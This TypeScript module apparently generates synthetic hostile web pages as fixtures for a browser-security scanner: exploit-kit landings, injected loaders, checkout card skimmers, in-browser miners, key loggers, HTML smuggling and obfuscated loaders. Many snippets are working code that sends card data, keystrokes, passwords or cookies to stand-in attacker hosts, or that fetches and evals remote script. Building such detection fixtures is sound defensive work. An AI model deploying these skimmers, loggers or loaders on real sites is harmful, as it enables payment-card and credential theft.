/** Hostile scripts: landing pages of exploit kits, injections, skimmers, miners, key loggers, smuggled files. Shapes only, without payloads. */
import type { FreshPage } from '../browser-report.ts';
import { type Chance, chanceOf } from '../chance.ts';
import { type Lang, STORIES, wordsOf } from '../languages.ts';
import { documentOf, external, field, framed, hidden, inline, link, list } from '../markup.ts';
import {
  base64,
  charCodes,
  hexEscaped,
  jsFuck,
  packed,
  percent,
  stringArray,
  xored,
} from '../obfuscation.ts';
import { snippets } from '../vendors.ts';

const filler = (c: Chance, words: number) =>
  Array.from({ length: words }, () => c.word(c.int(3, 9))).join(' ');

/** Landing pages that only victims of a redirection see. */
function exploitKits(): FreshPage[] {
  const c = chanceOf('kits');
  const page = (url: string, html: string): FreshPage => ({ url, html });
  const flash = (swf: string) =>
    `<object classid="clsid:d27cdb6e-ae6d-11cf-96b8-444553540000" width="11" height="11"><param name="movie" value="${swf}"><param name="allowScriptAccess" value="always"><param name="FlashVars" value="iddqd=${c.base64(80)}"><embed src="${swf}" type="application/x-shockwave-flash" width="11" height="11"></object>`;
  const ids = Array.from({ length: 6 }, () => c.word(7));
  return [
    page(
      `http://acc.rig-gate.example/?q=w3vQMvXcJxzQFYbGMv3DSKNbNkjWHViPxoaG9MildZ2qZGX_k7${c.base64(30).replaceAll(/[+/]/g, '_')}&oq=xfFnbUV`,
      `<html><head><meta http-equiv="X-UA-Compatible" content="IE=10"><meta charset="UTF-8"></head><body><script>/*${c.word(20)}*/var ${ids[0]}="${base64(`/* shape */ var a=document.createElement('iframe');`)}";function ${ids[1]}(s){/*${c.int(1e4, 9e4)}*/var e={},i,b=0,c,x,l=0,a,r="",w=String.fromCharCode,L=s.length;var A="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";for(i=0;i<64;i++){e[A.charAt(i)]=i;}for(x=0;x<L;x++){c=e[s.charAt(x)];b=(b<<6)+c;l+=6;while(l>=8){((a=(b>>>(l-=8))&0xff)||(x<(L-2)))&&(r+=w(a));}}return r;}var s=document.createElement("script");s.type="text/javascript";s.text=${ids[1]}(${ids[0]});document.body.appendChild(s);</script>${flash('/?ct=hot&br=IE11&tuif=4710&yus=swf')}</body></html>`,
    ),
    page(
      'http://kxgnypbhs.angler-land.example/viewforum.php?f=15b&sid=9a2.e1',
      `<!DOCTYPE html><html><head><title>${filler(c, 4)}</title></head><body><p>${filler(c, 60)}</p><div style="position:absolute;left:-3000px"><ul>${Array.from({ length: 40 }, () => `<li id="${c.word(6)}">${c.base64(90)}</li>`).join('')}</ul></div><script>var ${ids[2]}=document.getElementsByTagName('li'),${ids[3]}='';for(var q=0;q<${ids[2]}.length;q++){${ids[3]}+=${ids[2]}[q].innerHTML.replace(/[^a-z0-9]/gi,'');}function d(t,k){var o='';for(var i=0;i<t.length;i+=2)o+=String.fromCharCode(parseInt(t.substr(i,2),36)^k.charCodeAt(i%k.length));return o;}try{new ActiveXObject("Kaspersky.IeVirtualKeyboardPlugin.JavascriptApi");}catch(e){window['ev'+'al'](d(${ids[3]},'${c.word(8)}'));}</script></body></html>`,
    ),
    page(
      'http://d41q6.magnitude-adv.example/?4b2f9d71',
      `<html><head><meta http-equiv="x-ua-compatible" content="IE=EmulateIE8"></head><body><script>${xored('document.write(\'<iframe src="http://192.0.2.33/j" width=1 height=1></iframe>\');', 61, 'eval')}</script><script language="VBScript">
Dim ${ids[4]}
Function ${ids[5]}(s)
 Dim i, r
 For i = 1 To Len(s) Step 2
  r = r & Chr(CLng("&H" & Mid(s, i, 2)) Xor 23)
 Next
 ${ids[5]} = r
End Function
${ids[4]} = ${ids[5]}("${c.hex(400)}")
ExecuteGlobal ${ids[4]}
</script></body></html>`,
    ),
    page(
      'https://fallout-rest.example/3/1970_01_12/2024?Hyping=sc&unseat=9.html',
      `<html><head><title></title></head><body><script>var k="${c.base64(16)}";var x=new XMLHttpRequest();x.open("POST","/${c.word(7)}/${c.hex(4)}",false);x.setRequestHeader("Content-Type","text/plain");var g=[];for(var n=0;n<8;n++)g.push(Math.floor(Math.random()*4294967295));x.send(JSON.stringify({g:g,A:navigator.userAgent,v:window.ActiveXObject?1:0}));var m=CryptoJS.AES.decrypt(x.responseText,k).toString(CryptoJS.enc.Utf8);var f=new Function(m);f();</script><script src="/rabbit.js"></script></body></html>`,
    ),
    page(
      'http://cnt.neutrino-ads.example/hot/1998/pile.html',
      `<html><head></head><body><p style="font-size:0">${filler(c, 120)}</p>${flash('/exchange/tail.swf')}<script>PluginDetect={getVersion:function(n){try{if(n=='Flash'){return new ActiveXObject('ShockwaveFlash.ShockwaveFlash').GetVariable('$version');}if(n=='Java'){for(var i=0;i<navigator.plugins.length;i++)if(/Java/.test(navigator.plugins[i].name))return navigator.plugins[i].version;}if(n=='Silverlight'){return new ActiveXObject('AgControl.AgControl').isVersionSupported('5.1');}}catch(e){return null;}}};var v=[PluginDetect.getVersion('Flash'),PluginDetect.getVersion('Java'),PluginDetect.getVersion('Silverlight'),PluginDetect.getVersion('AdobeReader')];var u='/load.php?v='+escape(v.join('|'));document.write('<iframe src="'+u+'" width="1" height="1" style="visibility:hidden"></iframe><applet archive="/a.jar" code="A.class" width="1" height="1"></applet>');</script></body></html>`,
    ),
    page(
      'http://203.0.113.201/blackhole/main.php?page=8d2e6b1f',
      `<html><body><b>Please wait a moment. You will be forwarded...</b><hr><div id="asd" style="display:none">${Array.from({ length: 700 }, () => c.int(10, 250)).join('@')}</div><script>try{document.body&=.1}catch(gdsgsdg){zz=3;dbshre=79;if(dbshre){vfvwe=0;try{}catch(agdsg){vfvwe=1;}if(!vfvwe){e=window["e"+"v"+"al"];}s="";n=document.getElementById("asd").innerHTML.split("@");for(i=0;i-n.length!=0;i++){s=s+String["fro"+"mCh"+"arCode"](n[i]*1-zz);}}if(document)e("if(1){"+s+"}");}</script></body></html>`,
    ),
    page(
      'http://purplefox-pop.example/r/AmpVv?z=1',
      `<html><head><meta http-equiv="X-UA-Compatible" content="IE=8"></head><body><script>var a=function(){try{var w=new ActiveXObject('WScript.Shell');return w?1:0;}catch(e){return 0;}};var o=document.createElement('object');o.setAttribute('classid','clsid:BD96C556-65A3-11D0-983A-00C04FC29E36');try{var h=o.CreateObject('Microsoft.XMLHTTP','');var s=o.CreateObject('ADODB.Stream','');}catch(e){}var spray=unescape('%u0c0c%u0c0c%u4141%u4141');while(spray.length<0x8000)spray+=spray;var m=[];for(var i=0;i<64;i++)m[i]=spray.substring(0,0x100)+i;</script></body></html>`,
    ),
    page(
      'https://spelevo-adult.example/watch?v=1',
      `<html lang="en"><head><title>Watch free</title></head><body><div id="v"></div><script>${stringArray(['iframe', 'createElement', 'style', 'position:absolute;top:-2000px', 'src', '/land?fl=', 'appendChild', 'ShockwaveFlash.ShockwaveFlash', '$version', 'GetVariable', 'width', 'height'], (s) => `var fl='';try{fl=new ActiveXObject(${s(7)})[${s(9)}](${s(8)});}catch(e){}var f=document[${s(1)}](${s(0)});f[${s(2)}]['cssText']=${s(3)};f[${s(10)}]=f[${s(11)}]=0x1;f[${s(4)}]=${s(5)}+btoa(fl+'|'+navigator['userAgent']);document['body'][${s(6)}](f);setTimeout(function(){location='https://www.google.com/';},0x2710);`)}</script></body></html>`,
    ),
  ];
}

type Injected = readonly [url: string, lang: Lang, brand: string, injection: (c: Chance) => string];

/** Sites of others into which attackers have put a script. */
const INJECTED: readonly Injected[] = [
  [
    'https://www.heimatverein-oberndorf.example/',
    'de',
    'Heimatverein Oberndorf',
    () =>
      '<iframe src="http://gate-ek.example/in.cgi?11" width="1" height="1" frameborder="0" style="position:absolute;top:-900px;left:-900px"></iframe>',
  ],
  [
    'https://blog.viajes-por-asia.example/2023/05/',
    'es',
    'Viajes por Asia',
    () =>
      inline(
        `eval(String.fromCharCode(${charCodes("var s=document.createElement('script');s.src='https://train.developfirstline.example/delivery.js?s=3';document.head.appendChild(s);")}));`,
      ),
  ],
  [
    'https://www.pizzeria-napule.example/menu',
    'it',
    'Pizzeria Napule',
    () =>
      inline(
        `document.write(unescape('${percent('<iframe width="0" height="0" src="http://198.51.100.200/stat.php"></iframe>')}'));/*god_mode_on*/`,
      ),
  ],
  [
    'https://www.clubnautique.example/regates',
    'fr',
    'Club nautique',
    (c) =>
      inline(
        `;if(typeof ndsw==="undefined"){var ndsw=true,HttpClient=function(){this['get']=function(a,b){var x=new XMLHttpRequest();x['onreadystatechange']=function(){if(x['readyState']==4&&x['status']==200)b(x['responseText']);};x['open']('GET',a,!![]);x['send'](null);};},rand=function(){return Math['random']()['toString'](36)['substr'](2);},token=function(){return rand()+rand();};(function(){var n=navigator,d=document,s=screen,w=window,u=d['cookie'],h=w['location']['hostname'],r=d['referrer'];if(r&&r['indexOf'](h)===-1&&!u){var c=new HttpClient(),l='https://ads-${c.word(5)}.example/wp-includes/rest-api/ndsj.php?id='+token();c['get'](l,function(t){t['indexOf']('ndsx')!==-1&&w['eval'](t);});}}());};`,
      ),
  ],
  [
    'https://www.stomatolog-krakow.example/',
    'pl',
    'Stomatolog Kraków',
    (c) =>
      inline(
        stringArray(
          [
            'https://scripts-cdn.example/trbbbbb',
            'script',
            'createElement',
            'currentScript',
            'insertBefore',
            'parentNode',
            'src',
            'type',
            'text/javascript',
          ],
          (s) =>
            `var d=document,e=d[${s(2)}](${s(1)});e[${s(6)}]=${s(0)}+'?t=${c.hex(4)}';e[${s(7)}]=${s(8)};d[${s(3)}][${s(5)}][${s(4)}](e,d[${s(3)}]);d[${s(3)}]['remove']();`,
        ),
      ),
  ],
  ['https://okul-haberleri.example/duyurular', 'tr', 'Okul Haberleri', () => `${inline(jsFuck(6000))}`],
  [
    'https://www.kimono-rental.example/',
    'ja',
    '着物レンタル花',
    (c) =>
      inline(
        xored(
          `var f=document.createElement('iframe');f.src='http://203.0.113.77/${c.hex(4)}';f.style.display='none';document.documentElement.appendChild(f);`,
          94,
          '(0,eval)',
        ),
      ),
  ],
  [
    'https://www.avtoservis-perm.example/',
    'ru',
    'Автосервис',
    (c) =>
      inline(
        `var _0xf=["${hexEscaped('https://soc-goulish.example/')}","${hexEscaped('src')}"];(async()=>{const r=await fetch('https://bsc-dataseed.binance.org/',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({method:'eth_call',params:[{to:'0x${c.hex(40)}',data:'0x6d4ce63c'},'latest'],id:97,jsonrpc:'2.0'})});const h=(await r.json()).result.slice(130);let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(atob(s.replace(/\\0/g,'')));})();`,
      ),
  ],
];

function injected([url, lang, brand, injection]: Injected): FreshPage {
  const words = wordsOf(lang);
  const stories = STORIES[lang];
  const { host } = new URL(url);
  return {
    url,
    html: documentOf({
      lang,
      title: brand,
      head: `<meta name="generator" content="WordPress 5.2.4"><link rel="stylesheet" href="https://${host}/wp-content/themes/twentyten/style.css">${external(`https://${host}/wp-includes/js/jquery/jquery.js?ver=1.12.4`)}${snippets(host, 'universal')}`,
      body: `${framed(words, brand, [words.home, words.about, words.contact], stories.map(([title, text]) => `<article><h2>${title}</h2><p>${text}</p></article>`).join('\n'))}${injection(chanceOf(url))}`,
    }),
  };
}

type Skimmed = readonly [url: string, lang: Lang, brand: string, skimmer: (c: Chance) => string];

const SKIMMED: readonly Skimmed[] = [
  [
    'https://www.brautmode-lieselotte.example/checkout/',
    'de',
    'Brautmode Lieselotte',
    () =>
      inline(
        `document.addEventListener('click',function(e){if(e.target.closest('button')){var o={};document.querySelectorAll('input,select').forEach(function(i){if(i.value)o[i.name||i.id]=i.value;});if(o.cc_number){var i=new Image();i.src='https://google-anaiytics.example/collect?v='+btoa(unescape(encodeURIComponent(JSON.stringify(o))));}}});`,
      ),
  ],
  [
    'https://shop.rugby-kit.example/onepage/',
    'en',
    'Rugby Kit',
    (c) =>
      inline(
        stringArray(
          [
            'checkout',
            'href',
            'input',
            'querySelectorAll',
            'cc_number',
            'cc_cid',
            'https://jquery-cdn-stat.example/gate',
            'POST',
            'stringify',
            'setInterval',
            'onepage',
          ],
          (s) =>
            `(function(){var sent='';if(!new RegExp(${s(0)}+'|'+${s(10)})['test'](location[${s(1)}]))return;window[${s(9)}](function(){var q={};document[${s(3)}](${s(2)})['forEach'](function(i){q[i['name']]=i['value'];});if(q[${s(4)}]&&q[${s(5)}]&&q[${s(4)}]!==sent){sent=q[${s(4)}];var x=new XMLHttpRequest();x['open'](${s(7)},${s(6)},!![]);x['send'](btoa(JSON[${s(8)}](q)));}},0x${c.int(400, 900)});}());`,
        ),
      ),
  ],
  [
    'https://tienda.ceramica-azul.example/finalizar-compra/',
    'es',
    'Cerámica Azul',
    () =>
      `<img src="/favicon.ico" id="fav" style="display:none" onload="(function(){var s=document.createElement('script');s.innerHTML=atob('${base64("document.forms[1].addEventListener('submit',function(){navigator.sendBeacon('https://fonts-gstatlc.example/p',new FormData(this));});")}');document.body.appendChild(s);})()">`,
  ],
  [
    'https://www.cave-des-moines.example/commande',
    'fr',
    'La cave des moines',
    () =>
      inline(
        `/* Facebook Pixel Code */ var fbevt=function(){var r=['card','cvc','exp','holder'];var d=r.map(function(k){var e=document.querySelector('[name*='+k+']');return e?e.value:'';}).join('|');if(d.replace(/\\|/g,'').length>20&&!sessionStorage.fbp){sessionStorage.fbp=1;var ws=new WebSocket('wss://cdn-imgcloud.example/ws');ws.onopen=function(){ws.send(d.split('').reverse().join(''));};}};setInterval(fbevt,1500);`,
      ),
  ],
  [
    'https://www.scarpe-artigiane.example/checkout',
    'it',
    'Scarpe Artigiane',
    () =>
      `<div id="overlay" style="position:absolute;background:#fff;z-index:99999"><form id="pay2">${field('Numero della carta', 'p_cc', 'tel')}${field('Scadenza', 'p_exp')}${field('CVV', 'p_cvv', 'password')}<button type="button" id="pay2b">Paga</button></form></div>${inline(`document.querySelector('.stripe-frame')&&(document.querySelector('.stripe-frame').style.display='none');document.getElementById('pay2b').onclick=function(){var f=new FormData(document.getElementById('pay2'));f.append('h',location.host);fetch('https://stripe-js-cdn.example/tok',{method:'POST',mode:'no-cors',body:f}).then(function(){alert('Errore di pagamento, riprova.');document.getElementById('overlay').remove();document.querySelector('.stripe-frame').style.display='block';});};`)}`,
  ],
  [
    'https://fahrrad-kurbel.example/kasse',
    'de',
    'Fahrrad Kurbel',
    (c) =>
      inline(
        `(function(){${xored("window.__g='https://magento-cdn.example/x.php';", 47, 'eval')}var b=document.forms;for(var i=0;i<b.length;i++){b[i].setAttribute('data-a',b[i].action);b[i].action=window.__g+'?r='+encodeURIComponent(b[i].getAttribute('data-a'))+'&k=${c.hex(8)}';}})();`,
      ),
  ],
  [
    'https://www.velas-aromaticas.example/checkout',
    'pt',
    'Velas Aromáticas',
    () =>
      inline(
        `!function(f,b,e,v,n,t,s){n=f.gtmq=f.gtmq||[];t=b.createElement(e);t.async=1;t.src=atob(v);s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','${base64('https://googletagmanagar.example/gtm.js?id=GTM-LNKX3')}');document.addEventListener('change',function(e){var t=e.target;if(/\\d{13,19}/.test((t.value||'').replace(/\\s/g,''))){localStorage.setItem('_ga_s',btoa(t.value));fetch(atob('aHR0cHM6Ly9leGZpbC5leGFtcGxlL2M='),{method:'POST',body:localStorage._ga_s});}});`,
      ),
  ],
  [
    'https://hobby-plaza.example/cart/payment',
    'ja',
    'ホビープラザ',
    () =>
      inline(
        packed(
          `document.addEventListener('submit',function(event){var data={};Array.prototype.forEach.call(event.target.elements,function(element){data[element.name]=element.value;});var image=new Image();image.src='https://pic-store.example/logo.png?id='+encodeURIComponent(btoa(JSON.stringify(data)));},true);`,
        ),
      ),
  ],
];

function skimmed([url, lang, brand, skimmer]: Skimmed): FreshPage {
  const words = wordsOf(lang);
  const { host } = new URL(url);
  return {
    url,
    html: documentOf({
      lang,
      title: `${words.pay} – ${brand}`,
      head: `${external(`https://${host}/static/frontend/requirejs/require.js`)}${snippets(host, 'gtag')}`,
      body: `${framed(words, brand, [words.home, words.cart, words.contact], `<h1>${words.cart}</h1><form action="/checkout/place" method="post">${hidden('form_key', chanceOf(url).word(16))}${field(words.name, 'holder', 'text', 'autocomplete="cc-name"')}${field(words.card, 'cc_number', 'tel', 'autocomplete="cc-number"')}${field(words.expiry, 'cc_exp', 'text', 'autocomplete="cc-exp"')}${field('CVC', 'cc_cid', 'tel', 'autocomplete="cc-csc"')}<button type="submit">${words.pay}</button></form><div class="stripe-frame"></div>`)}${skimmer(chanceOf(url))}`,
    }),
  };
}

type Odd = readonly [url: string, lang: Lang, title: string, body: string, head: string, script: string];

const MINERS: readonly Odd[] = [
  [
    'https://free-movies-hd.example/watch/dune',
    'en',
    'Watch Dune online free',
    '<video></video><p>Server 1 · Server 2 · Server 3</p>',
    external('https://coinhive.com/lib/coinhive.min.js'),
    `var miner=new CoinHive.Anonymous('q3ExampleSiteKey0000000000000000',{throttle:0.2,threads:navigator.hardwareConcurrency});if(!miner.isMobile())miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);`,
  ],
  [
    'https://torrent-baza.example/',
    'ru',
    'Скачать торрент бесплатно',
    list([link('/t/1', 'Игры'), link('/t/2', 'Фильмы')]),
    external('https://www.hostingcloud.racing.example/8aYd.js'),
    `var _client=new Client.Anonymous('${chanceOf('m2').hex(64)}',{throttle:0.1,c:'w',ads:0});_client.start();_client.addMiningNotification&&0;`,
  ],
  [
    'https://juegos-flash-gratis.example/tetris',
    'es',
    'Juegos gratis: Tetris',
    '<canvas id="g"></canvas>',
    '',
    `var wk=new Worker(URL.createObjectURL(new Blob(["importScripts('https://cdn-wasm.example/cn.js');onmessage=function(e){var h=Module._cn_hash(e.data.blob,e.data.target);postMessage({job_id:e.data.job_id,nonce:e.data.nonce,result:h});}"])));var ws=new WebSocket('wss://pool-proxy.example:8443');ws.onopen=function(){ws.send(JSON.stringify({identifier:'handshake',pool:'gulf.moneroocean.stream',login:'4'+Array(95).join('A'),password:'x',algo:'cn/r'}));};ws.onmessage=function(m){wk.postMessage(JSON.parse(m.data));};wk.onmessage=function(r){ws.send(JSON.stringify({identifier:'solved',params:r.data}));};`,
  ],
  [
    'https://manga-okuma.example/bolum/77',
    'tr',
    'Manga oku – bölüm 77',
    '<img src="/p/77-1.jpg" alt="">',
    '',
    stringArray(
      [
        'wss://ws-stratum.example:443',
        'WebAssembly',
        'cryptonight',
        'hardwareConcurrency',
        'throttle',
        'job',
        'nonce',
        'submit',
      ],
      (s) =>
        `var n=navigator[${s(3)}]||0x4,w=[];for(var i=0x0;i<n;i++){w['push'](new Worker('/t.js'));}var k=new WebSocket(${s(0)});k['onmessage']=function(m){var j=JSON['parse'](m['data']);if(j['m']===${s(5)})w['forEach'](function(x){x['postMessage']({'a':${s(2)},'t':0.3,'j':j});});};w['forEach'](function(x){x['onmessage']=function(r){k['send'](JSON['stringify']({'m':${s(7)},'n':r['data'][${s(6)}]}));};});`,
    ),
  ],
  [
    'https://popunder-video.example/pop',
    'de',
    'Lädt',
    '<p>Bitte warten</p>',
    external('https://crypto-loot.example/lib/miner.min.js'),
    `var m=new CRLT.Anonymous('${chanceOf('m5').hex(44)}',{threads:4,autoThreads:true,throttle:0.5,coin:'xmr'});m.start();window.resizeTo(10,10);window.moveTo(screen.width-5,screen.height-30);`,
  ],
];

const KEY_LOGGERS: readonly Odd[] = [
  [
    'https://mitglieder.turnverein-ost.example/login',
    'de',
    'Mitglieder-Login',
    `<form action="/login" method="post">${field('Benutzername', 'u')}${field('Passwort', 'p', 'password')}<button>Anmelden</button></form>`,
    '',
    `var k='';document.onkeypress=function(e){k+=String.fromCharCode(e.which||e.keyCode);};setInterval(function(){if(k.length){new Image().src='http://203.0.113.15/k.php?c='+encodeURIComponent(k)+'&u='+encodeURIComponent(location.href);k='';}},1000);`,
  ],
  [
    'https://foro-coches-viejos.example/ucp.php',
    'es',
    'Foro – Entrar',
    `<form method="post">${field('Usuario', 'username')}${field('Contraseña', 'password', 'password')}<button>Entrar</button></form>`,
    '',
    `var buf=[];window.addEventListener('keydown',function(e){buf.push({k:e.key,t:Date.now(),el:e.target.name});if(buf.length>=16){navigator.sendBeacon('https://keys-collect.example/b',JSON.stringify(buf.splice(0)));}},true);document.addEventListener('paste',function(e){navigator.sendBeacon('https://keys-collect.example/p',e.clipboardData.getData('text'));});`,
  ],
  [
    'http://intranet-sklep.example/panel',
    'pl',
    'Panel',
    `<form method="post">${field('Login', 'l')}${field('Hasło', 'h', 'password')}<button>OK</button></form>`,
    '',
    xored(
      `document.addEventListener('keyup',function(e){fetch('http://198.51.100.61/l?k='+e.key,{mode:'no-cors'})});document.forms[0].onsubmit=function(){fetch('http://198.51.100.61/f?'+new URLSearchParams(new FormData(this)),{mode:'no-cors',keepalive:true})};`,
      33,
      'eval',
    ),
  ],
  [
    'https://kaiin.yakyu-club.example/login',
    'ja',
    '会員ログイン',
    `<form method="post" action="/auth">${field('ID', 'id')}${field('パスワード', 'pw', 'password')}<button>ログイン</button></form>`,
    '',
    `document.querySelector('[type=password]').addEventListener('blur',function(){var d=btoa(document.querySelector('[name=id]').value+':'+this.value+':'+document.cookie);var s=document.createElement('script');s.src='https://jp-stat.example/j.js?'+d;document.head.appendChild(s);});`,
  ],
];

const c2 = chanceOf('smuggle');
const SMUGGLED: readonly Odd[] = [
  [
    'https://drive-preview-doc.web.app/',
    'en',
    'Your document is downloading',
    '<h1>OneDrive</h1><p>Your download will start automatically. Archive password: 4471</p>',
    '',
    `function b64(t){var b=window.atob(t),n=b.length,y=new Uint8Array(n);for(var i=0;i<n;i++)y[i]=b.charCodeAt(i);return y.buffer;}var file='${base64(`inert ${c2.base64(3000)}`)}';var blob=new Blob([b64(file)],{type:'octet/stream'});var name='Scan_0412.zip';if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveBlob(blob,name);}else{var a=document.createElement('a');document.body.appendChild(a);a.style='display:none';var u=window.URL.createObjectURL(blob);a.href=u;a.download=name;a.click();window.URL.revokeObjectURL(u);}`,
  ],
  [
    'https://bewerbung-unterlagen.example/mappe.html',
    'de',
    'Bewerbungsunterlagen',
    '<p>Adobe Acrobat: Die Datei wird vorbereitet …</p>',
    '',
    `var p=[${Array.from({ length: 12 }, () => `"${c2.base64(180)}"`).join(',')}];var r=p.reverse().join('').split('').map(function(x){return String.fromCharCode(x.charCodeAt(0)^5)}).join('');setTimeout(function(){var a=document.createElement('a');a.href='data:application/x-iso9660-image;base64,'+btoa(r);a.download='Bewerbung_Mueller.iso';a.click();},1200);`,
  ],
  [
    'https://factura-electronica.example/cfdi',
    'es',
    'Factura electrónica',
    '<p>Descargando CFDI.zip</p>',
    '',
    stringArray(
      [
        'createObjectURL',
        'download',
        'CFDI_2024.zip',
        'application/zip',
        'createElement',
        'click',
        c2.base64(900),
      ],
      (s) =>
        `var t=atob(${s(6)}),u=new Uint8Array(t['length']);for(var i=0x0;i<u['length'];i++)u[i]=t['charCodeAt'](i)^0x2a;var l=document[${s(4)}]('a');l['href']=URL[${s(0)}](new Blob([u],{'type':${s(3)}}));l[${s(1)}]=${s(2)};l[${s(5)}]();`,
    ),
  ],
  [
    'https://svg-invoice-view.example/inv.html',
    'en',
    'Invoice',
    `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"></body></foreignObject></svg><p>Invoice preview is loading</p>`,
    '',
    `(function(){var e="${c2.hex(1800)}",k="${c2.word(12)}",o="";for(var i=0;i<e.length;i+=2)o+=String.fromCharCode(parseInt(e.substr(i,2),16)^k.charCodeAt((i/2)%k.length));[].filter.constructor(o)();})();`,
  ],
];

const LOADERS: readonly Odd[] = [
  ['http://load-a.example/x.html', 'en', '', '<p></p>', '', `${jsFuck(9000)}`],
  [
    'https://cdn-js-min.example/loader.html',
    'en',
    'loader',
    '<div></div>',
    '',
    `${'var _a=0;for(var _i=0;_i<100000;_i++){_a+=_i%7;if(_a<0){_a=_i;}}'.repeat(12)}\n${xored("document.location='http://192.0.2.200/next';", 120, 'eval')}`,
  ],
  [
    'https://aa-encoded.example/',
    'ja',
    '…',
    '<p>読み込み中</p>',
    '',
    `ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);(ﾟДﾟ)={ﾟΘﾟ: '_' ,ﾟωﾟﾉ : ((ﾟωﾟﾉ==3) +'_') [ﾟΘﾟ] ,ﾟｰﾟﾉ :(ﾟωﾟﾉ+ '_')[o^_^o -(ﾟΘﾟ)] ,ﾟДﾟﾉ:((ﾟｰﾟ==3) +'_')[ﾟｰﾟ] }; (ﾟДﾟ) ['_'] ( (ﾟДﾟ) ['_'] (ﾟεﾟ+${'(ﾟДﾟ)[ﾟεﾟ]+(ﾟΘﾟ)+ (ﾟｰﾟ)+ ((ﾟｰﾟ) + (ﾟΘﾟ))+ '.repeat(160)} (ﾟДﾟ)[ﾟoﾟ]) (ﾟΘﾟ)) ('_');`,
  ],
  [
    'http://203.0.113.140/tds/index.php',
    'en',
    'Loading',
    `<div id="d" style="display:none">${c2.base64(20_000)}</div>`,
    '',
    `var s=document.getElementById('d').textContent,o='';for(var i=0;i<s.length;i+=4)o+=String.fromCharCode(s.charCodeAt(i)-1);new Function(o)();`,
  ],
  [
    'https://nested-pack.example/',
    'en',
    'wait',
    '<p>wait</p>',
    '',
    packed(
      packed(
        "var frame=document.createElement('iframe');frame.src='http://198.51.100.9/land';frame.width=0;frame.height=0;document.body.appendChild(frame);",
      ),
    ),
  ],
  [
    'https://fingerprint-cloak.example/go?c=88',
    'en',
    'Please wait',
    '<noscript><meta http-equiv="refresh" content="0;url=https://www.wikipedia.org"></noscript>',
    '',
    `(function(){var d={ua:navigator.userAgent,wd:navigator.webdriver,pl:navigator.plugins.length,tz:new Date().getTimezoneOffset(),gl:(function(){try{var g=document.createElement('canvas').getContext('webgl');var e=g.getExtension('WEBGL_debug_renderer_info');return g.getParameter(e.UNMASKED_RENDERER_WEBGL);}catch(e){return '';}})(),cb:document.cookie.length,rf:document.referrer};if(d.wd||/SwiftShader|llvmpipe|VirtualBox|VMware/.test(d.gl)||/HeadlessChrome|bot/i.test(d.ua)){location.replace('https://www.wikipedia.org');return;}var x=new XMLHttpRequest();x.open('POST','/click.php?c=88');x.onload=function(){eval(x.responseText);};x.send(JSON.stringify(d));})();`,
  ],
  [
    'https://unicode-zero.example/',
    'en',
    'Gallery',
    '<h1>Gallery</h1>',
    '',
    `var h="${Array.from({ length: 900 }, () => c2.pick(['\u200b', '\u200c', '\u200d'])).join('')}";var o='';for(var i=0;i<h.length;i+=8){var b=0;for(var j=0;j<8;j++)b=b*2+(h.charCodeAt(i+j)===8203?0:1);o+=String.fromCharCode(b);}(1,eval)(o);`,
  ],
  [
    'https://dom-clobber-load.example/',
    'fr',
    'Chargement',
    '<p>Chargement…</p>',
    '',
    `window[['e','v','a','l'].join('')](decodeURIComponent(escape(window[['a','t','o','b'].join('')]('${base64(`var s=document['createElement']('script');s['src']='https://192.0.2.12/p.js';document['head']['appendChild'](s);`)}'))));`,
  ],
];

const oddPage = ([url, lang, title, body, head, script]: Odd): FreshPage => ({
  url,
  html: documentOf({ lang, title, head, body: `${body}${inline(script)}` }),
});

export const scripts = {
  'exploit kit': exploitKits,
  'injected site': () => INJECTED.map(injected),
  skimmer: () => SKIMMED.map(skimmed),
  miner: () => MINERS.map(oddPage),
  'key logger': () => KEY_LOGGERS.map(oddPage),
  'smuggled file': () => SMUGGLED.map(oddPage),
  'obfuscated loader': () => LOADERS.map(oddPage),
};
